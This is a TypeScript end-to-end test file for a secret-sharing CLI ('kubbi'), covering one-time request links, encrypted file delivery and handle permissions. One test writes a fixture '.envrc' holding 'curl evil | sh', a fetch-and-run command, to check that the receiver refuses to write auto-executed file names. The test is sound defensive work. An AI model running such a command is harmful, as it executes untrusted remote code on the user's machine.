/** `kubbi request`, `kubbi receive` and `kubbi fulfil` end to end, as subprocesses against the live API on Redis. */
import { spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { readFile, readdir, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { BIN, kubbi, tempDir } from "./run.js";

const { baseUrl, apiKey } = inject("kubbi");
const env = { KUBBI_API_KEY: apiKey, KUBBI_BASE_URL: baseUrl };

let work: Awaited<ReturnType<typeof tempDir>>;
beforeAll(async () => (work = await tempDir()));
afterAll(() => work.cleanup());

/** Starts `kubbi request ...` and resolves with the fill link it prints on stderr, and its eventual result. */
function startRequest(args: string[], cwd: string) {
  const child = spawn(process.execPath, [BIN, "request", ...args], {
    env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env },
    cwd,
    stdio: ["ignore", "pipe", "pipe"],
  });
  let stdout = "";
  let stderr = "";
  child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString("utf8")));
  const fillUrl = new Promise<string>((resolve, reject) => {
    child.stderr.on("data", (chunk: Buffer) => {
      stderr += chunk.toString("utf8");
      const match = /(http:\/\/\S+\/f\/\S+)/.exec(stderr);
      if (match) resolve(match[1]!);
    });
    child.on("close", () => reject(new Error(`kubbi request exited without a link: ${stderr}`)));
  });
  const done = new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) =>
    child.on("close", (code) => resolve({ code, stdout, stderr })),
  );
  return { fillUrl, done };
}

describe("kubbi request / fulfil / receive", () => {
  it("request waits and prints the secret delivered with `kubbi fulfil LINK -`; a second fulfil is refused", async () => {
    const requested = startRequest(["the staging DB password", "--ttl", "10m", "--poll-ms", "50"], work.dir);
    const fillUrl = await requested.fillUrl;
    expect(fillUrl).toMatch(new RegExp(`^${baseUrl}/f/[A-Za-z0-9_-]{43}#k=[A-Za-z0-9_-]{43}$`));
    const delivered = await kubbi(["fulfil", fillUrl, "-"], { input: "pg-pass-123", env: {} });
    expect(delivered).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^delivered \d+ encrypted bytes for KUBBI_API_KEYS\[0\]\n$/),
    });
    expect(await requested.done).toMatchObject({ code: 0, stdout: "pg-pass-123" });

    const again = await kubbi(["fulfil", fillUrl, "-"], { input: "again", env: {} });
    expect(again.code).not.toBe(0);
    expect(again.stderr).toMatch(/already|works once/);
  });

  it("--no-wait saves a 0600 handle; `kubbi fulfil LINK file...` then `kubbi receive` writes the files byte-exact into a new directory", async () => {
    const handleFile = join(work.dir, "db.handle");
    const asked = await kubbi(
      ["request", "the TLS key and its note", "--files", "2", "--no-wait", "--handle", handleFile],
      { env, cwd: work.dir },
    );
    expect(asked.code).toBe(0);
    const fillUrl = asked.stdout.trim();
    expect(fillUrl).toMatch(/\/f\/[A-Za-z0-9_-]{43}#k=/);
    expect((await stat(handleFile)).mode & 0o777).toBe(0o600);
    expect(JSON.parse(await readFile(handleFile, "utf8"))).toMatchObject({
      kind: "kubbi-request-handle",
      privateKey: { kty: "EC", crv: "P-256" },
    });

    const binary = randomBytes(2048);
    await writeFile(join(work.dir, "tls.key"), binary);
    await writeFile(join(work.dir, "note.md"), "# rotate monthly\n");
    const delivered = await kubbi(["fulfil", fillUrl, join(work.dir, "tls.key"), join(work.dir, "note.md")], {
      env: {},
    });
    expect(delivered.code).toBe(0);

    const received = await kubbi(["receive", handleFile, "--poll-ms", "50", "--json"], { env, cwd: work.dir });
    expect(received.code).toBe(0);
    const { files } = JSON.parse(received.stdout) as { files: Array<{ name: string; path: string }> };
    expect(files.map((file) => file.name)).toEqual(["tls.key", "note.md"]);
    expect((await readFile(files[0]!.path)).equals(binary)).toBe(true);
    expect(await readFile(files[1]!.path, "utf8")).toBe("# rotate monthly\n");
  });

  it("a delivered name that tools run by themselves (.envrc) is refused: exit 8, nothing written", async () => {
    const handleFile = join(work.dir, "unsafe.handle");
    const fillUrl = (
      await kubbi(["request", "a config", "--files", "1", "--no-wait", "--handle", handleFile], { env, cwd: work.dir })
    ).stdout.trim();
    await writeFile(join(work.dir, ".envrc"), "curl evil | sh\n");
    expect((await kubbi(["fulfil", fillUrl, join(work.dir, ".envrc")], { env: {} })).code).toBe(0);
    const out = join(work.dir, "inbox-unsafe");
    const received = await kubbi(["receive", handleFile, "--poll-ms", "50", "-o", out], { env, cwd: work.dir });
    expect(received.code).toBe(8);
    expect(received.stderr).toMatch(/\.envrc/);
    await expect(readdir(out)).rejects.toThrow();
  });
});
